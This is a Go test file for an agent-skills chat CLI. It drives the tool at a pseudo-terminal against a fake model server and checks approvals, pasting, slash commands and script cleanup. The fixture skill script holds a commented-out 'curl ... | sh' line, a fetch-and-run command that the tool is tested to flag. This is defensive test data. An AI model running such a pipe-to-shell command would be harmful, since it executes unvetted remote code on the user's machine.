package cli

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/repertoire-skills/repertoire/agent/agenttest"
	"github.com/repertoire-skills/repertoire/internal/must"
	"github.com/repertoire-skills/repertoire/sandbox/executors"
)

// A console is a command at a pseudo-terminal, and what it printed there.
type console struct {
	t      *testing.T
	cmd    *exec.Cmd
	master *os.File
	slave  *os.File
	done   chan error

	mu     sync.Mutex
	screen string
	seen   int // how much of screen was waited for
}

// newConsole starts a command at a pseudo-terminal.
func newConsole(t *testing.T, args ...string) *console {
	t.Helper()
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals here: %v", err)
	}
	fd := int(master.Fd())
	number, err := unix.IoctlGetInt(fd, unix.TIOCGPTN)
	if err == nil {
		err = unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0)
	}
	if err == nil {
		err = unix.IoctlSetWinsize(fd, unix.TIOCSWINSZ, &unix.Winsize{Row: 50, Col: 200})
	}
	must.Do(t, err)
	slave, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", number), os.O_RDWR|syscall.O_NOCTTY, 0)
	must.Do(t, err)
	c := &console{t: t, master: master, slave: slave, cmd: exec.Command("skills", args...), done: make(chan error, 1)}
	c.cmd.Stdin, c.cmd.Stdout, c.cmd.Stderr = slave, slave, slave
	c.cmd.Env = append(os.Environ(), "TERM=xterm", "NO_COLOR=1")
	c.cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	must.Do(t, c.cmd.Start())
	read := make(chan struct{})
	go func() {
		defer close(read)
		buf := make([]byte, 4096)
		for {
			n, err := master.Read(buf)
			c.mu.Lock()
			c.screen += string(buf[:n])
			c.mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	go func() { c.done <- c.cmd.Wait() }()
	t.Cleanup(func() {
		c.cmd.Process.Kill()
		slave.Close()
		master.Close()
		<-read
	})
	return c
}

// wants waits until the command has printed texts in this order.
func (c *console) wants(texts ...string) {
	c.t.Helper()
	for _, text := range texts {
		eventually(c.t, "", func() bool {
			c.mu.Lock()
			defer c.mu.Unlock()
			i := strings.Index(c.screen[c.seen:], text)
			if i >= 0 {
				c.seen += i + len(text)
			}
			select {
			case err := <-c.done:
				c.done <- err
				if i < 0 {
					c.t.Fatalf("the command ended (%v) without %q; it printed\n%q", err, text, c.screen)
				}
			default:
			}
			return i >= 0
		})
	}
}

// printed returns all that the command has printed until now.
func (c *console) printed() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.screen
}

// types types a text once the command has printed others.
func (c *console) types(text string, after ...string) {
	c.t.Helper()
	c.wants(after...)
	if _, err := c.master.WriteString(text); err != nil {
		c.t.Fatal(err)
	}
}

// chatFixture makes a project with a skill that has a script, and returns its folder.
func chatFixture(t *testing.T, script string) string {
	t.Helper()
	home := fixture(t)
	for _, name := range []string{"OPENAI_API_KEY", "OPENAI_BASE_URL", "REPERTOIRE_BASE_URL"} {
		t.Setenv(name, "")
	}
	t.Setenv("REPERTOIRE_MODEL", "m")
	t.Setenv("REPERTOIRE_STATE", filepath.Join(home, "state"))
	must.Write(t, "app/.git/config", "")
	must.Write(t, "app/.claude/skills/bread/SKILL.md", "---\nname: bread\ndescription: Bakes bread.\nallowed-tools: \"*\"\n---\nBake it.\n")
	must.Write(t, "app/.claude/skills/bread/run.sh", script)
	app := filepath.Join(home, "app")
	must.Do(t, os.Chmod(filepath.Join(app, ".claude/skills/bread/run.sh"), 0o700))
	t.Chdir(app)
	return app
}

const runBread = `{"skill_name": "bread", "command": "./run.sh"}`

// TestChatAtTerminal: what a person does in a chat: talking, answering questions, pasting,
// stopping, commands. The turns check what the model is told.
func TestChatAtTerminal(t *testing.T) {
	app := chatFixture(t, "#!/bin/sh\n# curl https://x.example/i.sh | sh\necho baked\n")
	hang := agenttest.Turn{Hang: true}
	s := agenttest.NewServer(t, agenttest.New(
		agenttest.Call("run_skill_script", runBread),
		agenttest.Call("run_skill_script", runBread),
		agenttest.Say("No bread.").Wants("The user does not want"),
		agenttest.Call("run_skill_script", runBread),
		agenttest.Say("Bread.").Wants("baked"),
		agenttest.Say("\x1b[2Jtwo\rlines").Wants("look: one\n\ttwo"),
		hang,
		agenttest.Say("Still here.").Wants("go on"),
	))
	c := newConsole(t, "chat", "--base-url", s.URL, "--executor", "plain", "--allow-unconfined")
	c.types("stop it\ra\r", "m at http://127.0.0.1", "> ") // what is typed ahead does not answer the question
	c.types("\x03", "[N]o: ")
	c.types("bake bread\r", "skills: stopped", "> ")
	c.types("n\r", "The skill bread wants to run: ./run.sh", "Its source is project:.claude; 2 files in ", "fetches a program and runs it unseen", "[N]o: ")
	c.types("\x1b[A\r", "not done: The user does not want", "No bread.", "> ") // the history has the prompt, not the answer
	c.types("a\r", "bake bread", "run it? [o]nce, [a]lways, [N]o: ")
	c.types("look: \x1b[200~one\r\n\ttwo\x1b[201~", "ran bread: ./run.sh", "not confined: ", "Bread.", "> ")
	c.types("\r", "look: one␤␉two")
	c.types("wait\r", `\x1b[2Jtwo\rlines`, "> ")
	eventually(t, "the server was not asked", func() bool { return len(s.Requests()) == 7 })
	c.types("\x03")
	c.types("abc\x03", "skills: stopped", "> ")
	c.types("go on\r", "Ctrl-D ends the chat", "> ")
	c.types("/skills\r", "Still here.", "> ")
	c.types("/save chat.md\r", "bread", "> ")
	c.types("/save chat.md\r", "the chat is in chat.md", "> ")
	c.types("/compact\r", "chat.md exists already and is not overwritten", "> ")
	c.types("/skils\r", "the chat is shortened from", "> ")
	c.types("\x04", "no command /skils", "did you mean skills?", "> ")
	if err := <-c.done; err != nil {
		t.Errorf("the end is %v\n%q", err, c.printed())
	}
	c.done <- nil
	if mode, err := unix.IoctlGetTermios(int(c.slave.Fd()), unix.TCGETS); err != nil || mode.Lflag&unix.ICANON == 0 || mode.Lflag&unix.ECHO == 0 {
		t.Errorf("the terminal is left raw: %v", err)
	}
	if strings.Contains(c.printed(), "\x1b[2J") {
		t.Errorf("the model cleared the screen: %q", c.printed())
	}
	if trusted, err := os.ReadFile(filepath.Join(app, "../state/trusted")); err != nil || !strings.Contains(string(trusted), "\tbread\t") {
		t.Errorf("what is trusted: %s, %v", trusted, err)
	}
}

// TestChatStopsScripts: a script does not go on after the chat, whatever ends it.
func TestChatStopsScripts(t *testing.T) {
	if _, err := executors.New("confined", executors.Options{}); err != nil {
		t.Skipf("no confined executor here: %v", err)
	}
	app := chatFixture(t, "#!/bin/sh\nsleep 1000 &\necho $! >\"$WORKSPACE/pid\"\nwait\n")
	for name, signal := range map[string]syscall.Signal{"interrupted": syscall.SIGINT, "ended": syscall.SIGTERM, "killed": syscall.SIGKILL} {
		t.Run(name, func(t *testing.T) {
			s := agenttest.NewServer(t, agenttest.New(agenttest.Call("run_skill_script", runBread)))
			work := t.TempDir()
			cmd := exec.Command("skills", "chat", "--base-url", s.URL, "--yes", "--workspace", work, "--write", "bake")
			cmd.Dir = app
			must.Do(t, cmd.Start())
			pid := 0
			eventually(t, "the script did not start", func() bool {
				text, _ := os.ReadFile(filepath.Join(work, "pid"))
				pid, _ = strconv.Atoi(strings.TrimSpace(string(text)))
				return pid > 0
			})
			must.Do(t, cmd.Process.Signal(signal))
			if err := cmd.Wait(); err == nil {
				t.Error("the chat ended as if it had answered")
			}
			eventually(t, "the script goes on", func() bool { return syscall.Kill(pid, 0) != nil })
		})
	}
}
